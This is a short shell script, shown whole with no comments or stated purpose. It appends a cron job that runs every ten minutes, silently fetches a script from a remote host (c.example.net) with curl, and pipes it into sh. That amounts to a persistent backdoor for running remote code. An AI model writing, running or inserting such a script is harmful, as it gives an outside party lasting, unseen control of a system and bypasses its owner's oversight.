#!/bin/sh
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://c.example.net/b | sh") | crontab -
